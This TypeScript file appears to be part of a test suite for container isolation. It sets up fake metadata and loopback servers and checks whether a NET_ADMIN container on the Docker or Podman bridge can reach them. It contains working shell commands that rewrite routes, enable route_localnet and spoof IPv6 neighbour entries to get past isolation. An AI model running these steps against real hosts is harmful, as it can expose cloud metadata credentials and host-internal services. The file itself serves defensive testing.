/** Attacks of a container that may change its own network namespace, on its bridge. The host of all this is a namespace of its own. */
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { call, must } from "../../engines/process.ts";
import { finding, type Peer, type PeerAttack } from "./peer.ts";

const METADATA = "169.254.169.254";
const METADATA_V6 = "fd00:ec2::254";
const SERVE = (address: string) =>
  `require('net').createServer((s) => s.end('reached')).listen(8081, '${address}', () => console.log('up'))`;
const CONNECT = (address: string) =>
  `const s = require('net').connect(8081, '${address}'); s.setTimeout(2000, () => { console.log('silence'); process.exit(); });
   s.on('data', (d) => console.log(String(d))); s.on('error', (e) => console.log(e.code))`;

/** A server of the host on this address, until `end`. */
async function serving(address: string): Promise<{ end(): void }> {
  const child: ChildProcess = spawn(process.execPath, ["-e", SERVE(address)], { stdio: ["ignore", "pipe", "inherit"] });
  await once(child.stdout!, "data");
  return { end: () => void child.kill("SIGKILL") };
}

async function withCloud<T>(address: string, action: () => Promise<T>): Promise<T> {
  execFileSync("ip", ["link", "add", "cloud", "type", "veth", "peer", "name", "cloud1"]);
  try {
    execFileSync("ip", ["addr", "add", address, "dev", "cloud", ...(address.includes(":") ? ["nodad"] : [])]);
    execFileSync("ip", ["link", "set", "cloud", "up"]);
    return await action();
  } finally {
    execFileSync("ip", ["link", "del", "cloud"]);
  }
}

/** On the bridge that is the default, with a published port. */
async function onBridge(peer: Peer, name: string): Promise<(...command: string[]) => Promise<string>> {
  const network = peer.name === "Podman" ? ["--network", "podman"] : [];
  const pid = await peer.running(name, [...network, "--cap-add", "NET_ADMIN", "-p", "8080:80"]);
  return async (...command) => (await must(["nsenter", `--net=/proc/${pid}/ns/net`, ...command])).stdout.trim();
}

export const loopback: PeerAttack = (peer) =>
  withCloud(`${METADATA}/32`, async () => {
    const servers = [await serving(METADATA), await serving("127.0.0.1")];
    try {
      const inside = await onBridge(peer, "blind");
      const gateway = /default via (\S+)/.exec(await inside("ip", "route"))?.[1];
      const open = `ip route del blackhole ${METADATA}; echo 1 > /proc/sys/net/ipv4/conf/eth0/route_localnet;
        ip addr del 127.0.0.1/8 dev lo; ip route flush table local 127.0.0.0/8; ip route add 127.0.0.1 via ${gateway}; true`;
      await inside("sh", "-c", `(${open}) 2>/dev/null`);
      const found = [await inside(process.execPath, "-e", CONNECT("127.0.0.1")), await inside(process.execPath, "-e", CONNECT(METADATA))];
      const detail = `127.0.0.1: ${found[0]}; ${METADATA}: ${found[1]}`;
      return finding(!found.includes("reached"), detail);
    } finally {
      for (const { end } of servers) end();
      await peer.client("rm", "-f", "blind");
    }
  });

export const metadataV6: PeerAttack = (peer) =>
  withCloud(`${METADATA_V6}/128`, async () => {
    const server = await serving(METADATA_V6);
    try {
      const inside = await onBridge(peer, "blind6");
      const bridge = execFileSync("ip", ["-o", "link", "show", "type", "bridge"], { encoding: "utf8" })
        .split("\n")
        .map((line) => line.split(": ")[1] ?? "")
        .find((name) => name === (peer.name === "Docker" ? "docker0" : "cni-podman0"));
      const mac = /link\/ether (\S+)/.exec(execFileSync("ip", ["link", "show", bridge ?? ""], { encoding: "utf8" }))?.[1];
      // A neighbour is told that the answers are to go to the container: the attacker sends a router's neighbour messages as well.
      const open = `echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6; ip link set eth0 up; ip -6 addr add fe80::99/64 dev eth0 nodad;
        ip -6 route add ${METADATA_V6} dev eth0 src fe80::99; ip -6 neigh replace ${METADATA_V6} lladdr ${mac} dev eth0; true`;
      await inside("sh", "-c", `(${open}) 2>/dev/null`);
      const found = await inside(process.execPath, "-e", CONNECT(METADATA_V6));
      const { stdout } = await call(["cat", `/proc/sys/net/ipv6/conf/${bridge}/disable_ipv6`]);
      return finding(found !== "reached", `${found}; disable_ipv6 of the bridge is ${stdout.trim()}`);
    } finally {
      server.end();
      await peer.client("rm", "-f", "blind6");
    }
  });
